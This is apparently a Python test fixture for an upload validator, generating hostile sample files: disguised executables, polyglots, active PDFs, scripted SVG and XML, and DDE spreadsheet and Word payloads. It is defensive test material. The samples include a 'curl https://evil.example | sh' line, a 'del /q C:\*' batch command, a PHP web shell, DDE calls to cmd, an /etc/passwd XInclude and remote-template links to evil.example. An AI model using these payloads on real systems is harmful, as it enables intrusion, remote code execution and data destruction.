"""A corpus of hostile uploads, generated here rather than kept as binary fixtures.

Each entry is a file an attacker would try: executables and scripts under
harmless names, HTML in disguise, archives, polyglots (a harmless header
followed by a page, a script or an archive), active PDFs and XML, text that is
not UTF-8, spreadsheet formulas that start programs. `expected` is None when
the upload must be refused (415), or the type it must be stored as when the
file is allowed but only in a safe form (markup stored as itself and served as
an attachment, a lying name replaced by the real type's extension).
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    data: bytes
    expected: str | None = None  # None: refused; else the content type it is stored as
    api_status: int = 415  # what the upload API answers when it is refused
    api_code: str = "unsupported_file_type"


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def png_bytes(*, text: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    extra = chunk(b"tEXt", b"Comment\x00" + text) if text else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + extra
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes(*, comment: bytes = b"") -> bytes:
    com = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + com + b"\x00" * 64 + b"\xff\xd9"


def gif_bytes(*, width: bytes = b"\x01\x00") -> bytes:
    return b"GIF89a" + width + b"\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


def pdf_bytes(body: bytes = b"1 0 obj<</Type/Catalog>>endobj\n") -> bytes:
    return b"%PDF-1.7\n" + body + b"trailer<<>>\n%%EOF\n"


def objstm_pdf(
    objects: bytes, *, dictionary: bytes = b"/Type/ObjStm/N 1/First 4", encoded: bytes | None = None
) -> bytes:
    """A PDF 1.5 whose objects are packed in a FlateDecode object stream (what a PDF reader
    unpacks and acts on), after a harmless uncompressed catalog."""
    data = zlib.compress(b"2 0 " + objects) if encoded is None else encoded
    filter_ = b"" if b"/Filter" in dictionary else b"/Filter/FlateDecode"
    stream = b"3 0 obj<<" + dictionary + filter_ + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream\nendobj\n"
    return pdf_bytes(b"1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n" + stream)


def tar_bytes() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        payload = b"#!/bin/sh\necho pwned\n"
        info = tarfile.TarInfo("run.sh")
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    return buffer.getvalue()


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64
PAGE = b"<html><body><script>fetch('/api/teams/').then(r=>r.text()).then(alert)</script></body></html>"
SVG_NS = b'xmlns="http://www.w3.org/2000/svg"'
OOXML_BASE = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
SETUP_ZIP = zip_bytes({"setup.exe": PE})


# Office documents that make Word or Excel fetch or run something when opened (a fresh attack, issue 10).
W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS_NS = b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def word_document(body: bytes) -> bytes:
    return b"<w:document " + W_NS + b"><w:body><w:p>" + body + b"</w:p></w:body></w:document>"


def external_relationship(kind: bytes, target: bytes) -> bytes:
    return (
        b"<Relationships " + RELS_NS + b'><Relationship Id="rId1" Type="' + OFFICE_REL + kind
        + b'" Target="' + target + b'" TargetMode="External"/></Relationships>'
    )  # fmt: skip


def encrypted_flag(data: bytes) -> bytes:
    """A ZIP whose entries claim to be encrypted (a reader cannot vet what it cannot read)."""
    data = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flag_at] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def corpus() -> list[Hostile]:
    return [
        # --- Executables and scripts under harmless names
        Hostile("pe-as-pdf", "invoice.pdf", PE),
        Hostile("elf-as-png", "photo.png", ELF),
        Hostile("macho-as-jpg", "photo.jpg", MACHO),
        Hostile("wasm-as-txt", "notes.txt", b"\x00asm\x01\x00\x00\x00"),
        Hostile("flash-as-gif", "banner.gif", b"CWS\x0a" + b"\x00" * 32),
        Hostile("shebang-as-txt", "notes.txt", b"#!/bin/sh\ncurl https://evil.example | sh\n"),
        Hostile("bom-shebang-as-txt", "notes.txt", b"\xef\xbb\xbf#!/usr/bin/env python\nimport os\n"),
        Hostile("batch-as-txt", "readme.txt", b"@echo off\r\ndel /q C:\\*\r\n"),
        Hostile("php-after-a-line", "notes.txt", b"Stock list\n<?php system($_GET['c']); ?>\n"),
        Hostile("executable-name", "report.pdf.exe", pdf_bytes()),
        # --- HTML in disguise
        Hostile("html-behind-pdf-marker", "report.pdf", b"<!-- %PDF-1.4 -->\n" + PAGE),
        Hostile("html-after-bom-and-space", "image.png", b"\xef\xbb\xbf \n\t" + PAGE),
        Hostile("html-after-text", "notes.txt", b"Quarterly notes\n\n" + PAGE),
        Hostile("utf16-html", "notes.txt", b"\xff\xfe" + PAGE.decode().encode("utf-16-le")),
        Hostile("xhtml-as-xml", "data.xml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
        Hostile("markdown-with-raw-script", "guide.md", b"# Guide\n\nHello <script>alert(1)</script>\n"),
        Hostile("markdown-javascript-link", "guide.md", b"# Guide\n\n[Open](javascript:alert(document.cookie))\n"),
        Hostile("json-with-script", "data.json", b'{"note": "</script><script>alert(1)</script>"}'),
        Hostile("event-handler-in-csv", "prices.csv", b'name,html\nx,"<img src=x onerror=alert(1)>"\n'),
        # --- Polyglots: a harmless header followed by something else
        Hostile("pdf-then-html", "report.pdf", pdf_bytes() + PAGE),
        Hostile("gif-then-script", "pixel.gif", gif_bytes() + b"<script>alert(1)</script>"),
        Hostile("gif-javascript", "pixel.gif", gif_bytes(width=b"/*") + b"*/=alert(document.domain);"),
        Hostile("png-text-chunk-html", "photo.png", png_bytes(text=PAGE)),
        Hostile("jpeg-comment-pdf", "photo.jpg", jpeg_bytes(comment=b"%PDF-1.4 1 0 obj<<>>endobj")),
        Hostile("jpeg-with-zip-appended", "photo.jpg", jpeg_bytes() + SETUP_ZIP),
        Hostile("png-with-zip-appended", "photo.png", png_bytes() + SETUP_ZIP),
        Hostile("pdf-with-zip-appended", "report.pdf", pdf_bytes() + SETUP_ZIP),
        Hostile("png-with-rar-appended", "photo.png", png_bytes() + b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32),
        Hostile("webp-with-page", "photo.webp", b"RIFF\x40\x00\x00\x00WEBPVP8 " + b"\x00" * 16 + PAGE),
        Hostile("bmp-javascript", "chart.bmp", b"BM/*" + b"\x00" * 10 + struct.pack("<I", 40) + b"\x00" * 40),
        # --- Archives and documents carrying programs
        Hostile("zip-with-exe", "docs.zip", SETUP_ZIP),
        Hostile("zip-as-pdf", "report.pdf", SETUP_ZIP),
        Hostile("jar-as-docx", "letter.docx", zip_bytes({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b""})),
        Hostile("docx-with-page", "letter.docx", zip_bytes({**OOXML_BASE, "word/afchunk.htm": PAGE})),
        Hostile("docx-with-nested-zip", "letter.docx", zip_bytes({**OOXML_BASE, "word/embeddings/p.zip": SETUP_ZIP})),
        Hostile("xlsm-as-xlsx", "sheet.xlsx", zip_bytes({**OOXML_BASE, "xl/vbaProject.bin": b"\x00"})),
        Hostile("rar-as-pdf", "report.pdf", b"Rar!\x1a\x07\x00" + b"\x00" * 32),
        Hostile("7z-as-png", "photo.png", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32),
        Hostile("gzip-as-txt", "notes.txt", b"\x1f\x8b\x08\x00" + b"\x00" * 32),
        Hostile("tar-as-txt", "notes.txt", tar_bytes()),
        Hostile("ole-as-docx", "letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64),
        Hostile("rtf-as-txt", "letter.txt", b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}"),
        # --- Active PDF, SVG and XML
        Hostile("pdf-javascript", "form.pdf", pdf_bytes(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n")),
        Hostile("pdf-escaped-javascript", "form.pdf", pdf_bytes(b"1 0 obj<</S/J#61vaScript/J#53(x)>>endobj\n")),
        Hostile("pdf-launch", "form.pdf", pdf_bytes(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n")),
        Hostile("pdf-embedded-file", "form.pdf", pdf_bytes(b"1 0 obj<</Type/EmbeddedFile>>endobj\n")),
        # actions packed in compressed object streams (PDF 1.5+), where a byte search cannot see them
        Hostile("pdf-objstm-javascript", "form.pdf", objstm_pdf(b"<</S/JavaScript/JS(app.alert(1))>>")),
        Hostile("pdf-objstm-launch", "form.pdf", objstm_pdf(b"<</S/Launch/F(cmd.exe)>>")),
        Hostile("pdf-objstm-escaped-name", "form.pdf", objstm_pdf(b"<</S/J#61vaScript/J#53(x)>>")),
        Hostile("pdf-objstm-escaped-type", "form.pdf", objstm_pdf(b"<</S/JavaScript>>", dictionary=b"/Type/Obj#53tm")),
        Hostile(
            "pdf-objstm-endobj-in-a-string",
            "form.pdf",
            objstm_pdf(b"<</S/Launch/F(x.exe)>>", dictionary=b"/Type/ObjStm/Title(a endobj (nested) b)/N 1"),
        ),
        Hostile(
            "pdf-objstm-hex-encoded",
            "form.pdf",
            objstm_pdf(b"", dictionary=b"/Type/ObjStm/Filter/ASCIIHexDecode", encoded=b"2f4a53283129>"),
        ),
        Hostile("pdf-objstm-corrupt", "form.pdf", objstm_pdf(b"", encoded=b"\x78\x9c not deflate at all")),
        Hostile("svg-script", "logo.svg", b"<svg " + SVG_NS + b"><script>alert(1)</script></svg>"),
        Hostile("svg-onload", "logo.svg", b"<svg " + SVG_NS + b' onload="alert(1)"/>'),
        Hostile(
            "svg-foreign-object", "logo.svg", b"<svg " + SVG_NS + b"><foreignObject>" + PAGE + b"</foreignObject></svg>"
        ),
        Hostile("xml-stylesheet", "data.xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
        Hostile(
            "xml-xinclude",
            "data.xml",
            b'<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
        ),
        Hostile("xml-utf7", "data.xml", b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>'),
        Hostile("xml-entities", "data.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xx">]><a>&x;</a>'),
        # --- Text that is not clean UTF-8, spreadsheet programs
        Hostile("nul-in-text", "notes.txt", b"hello\x00world\n"),
        Hostile("latin1-text", "notes.txt", b"caf\xe9 cr\xe8me\n"),
        Hostile("escape-sequences", "notes.txt", b"ok\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\n"),
        Hostile("csv-dde", "prices.csv", b"name,price\naspirin,=cmd|' /C calc'!A0\n"),
        Hostile("csv-dde-function", "prices.csv", b'name,price\naspirin,"=DDE(""cmd"";""/C calc"";""x"")"\n'),
        # --- Found by a fresh attack (issue 10): Office DDE and remote content, PDF forms and
        # remote actions, CSV quoting, markup without a space after the tag name
        Hostile(
            "docx-ddeauto-field",
            "letter.docx",
            zip_bytes(
                {
                    **OOXML_BASE,
                    "word/document.xml": word_document(
                        b'<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>'
                    ),
                }
            ),
        ),
        Hostile(
            "docx-dde-field-split-over-runs",
            "letter.docx",
            zip_bytes(
                {
                    **OOXML_BASE,
                    "word/document.xml": word_document(
                        b"<w:r><w:instrText>DD</w:instrText></w:r>"
                        b"<w:r><w:instrText>EAUTO cmd /k calc</w:instrText></w:r>"
                    ),
                }
            ),
        ),
        Hostile(
            "docx-remote-template",
            "letter.docx",
            zip_bytes(
                {
                    **OOXML_BASE,
                    "word/_rels/settings.xml.rels": external_relationship(
                        b"attachedTemplate", b"https://evil.example/t.dotm"
                    ),
                }
            ),
        ),
        Hostile(
            "docx-external-ole-object",
            "letter.docx",
            zip_bytes(
                {
                    **OOXML_BASE,
                    "word/_rels/document.xml.rels": external_relationship(
                        b"oleObject", b"mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"
                    ),
                }
            ),
        ),
        Hostile(
            "xlsx-dde-link",
            "sheet.xlsx",
            zip_bytes(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/externalLinks/externalLink1.xml": (
                        b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                    ),
                }
            ),
        ),
        Hostile(
            "xlsx-dde-formula",
            "sheet.xlsx",
            zip_bytes(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/worksheets/sheet1.xml": (
                        b"<worksheet><sheetData><row><c><f>cmd|&apos; /C calc&apos;!A0</f></c></row></sheetData>"
                        b"</worksheet>"
                    ),
                }
            ),
        ),
        Hostile(
            "docx-member-outside-the-package", "letter.docx", zip_bytes({**OOXML_BASE, "../../startup/run.txt": b"x"})
        ),
        Hostile("docx-encrypted-members", "letter.docx", encrypted_flag(zip_bytes(OOXML_BASE))),
        Hostile(
            "pdf-xfa-javascript",
            "form.pdf",
            objstm_pdf(b"<</XFA 4 0 R>>")[: -len(b"trailer<<>>\n%%EOF\n")]
            + b"4 0 obj<</Filter/FlateDecode>>stream\n"
            + zlib.compress(b'<script contentType="application/x-javascript">app.alert(1)</script>')
            + b"\nendstream\nendobj\ntrailer<<>>\n%%EOF\n",
        ),
        Hostile(
            "pdf-remote-goto-unc",
            "form.pdf",
            pdf_bytes(b"1 0 obj<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\s\\\\x.pdf)>>>>endobj\n"),
        ),
        Hostile(
            "pdf-import-data",
            "form.pdf",
            pdf_bytes(b"1 0 obj<</OpenAction<</S/ImportData/F(http://evil/x.fdf)>>>>endobj\n"),
        ),
        Hostile("csv-dde-doubled-quotes", "prices.csv", b'name,price\naspirin,"=cmd|""/C calc""!A0"\n'),
        Hostile("csv-dde-unquoted-topic", "prices.csv", b"name,price\naspirin,=calc|x!A0\n"),
        Hostile("text-handler-after-a-slash", "notes.txt", b"Notes\n<img/src/onerror=alert(1)>\n"),
        # --- Media containers we do not accept
        Hostile("matroska", "clip.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x88matroska" + b"\x00" * 16),
        Hostile("avi", "clip.mp4", b"RIFF\x40\x00\x00\x00AVI LIST" + b"\x00" * 32),
        Hostile("empty", "empty.txt", b"", api_status=400, api_code="validation_error"),
        # --- Allowed, but only in a safe form
        Hostile("clean-svg-named-png", "logo.png", b"<svg " + SVG_NS + b' width="1"><rect/></svg>', "image/svg+xml"),
        Hostile(
            "plain-xml-named-txt", "order.txt", b'<?xml version="1.0"?><order><id>1</id></order>', "application/xml"
        ),
        Hostile("text-named-pdf", "invoice.pdf", b"Invoice 42: aspirin x2\n", "text/plain"),
    ]


CORPUS = corpus()
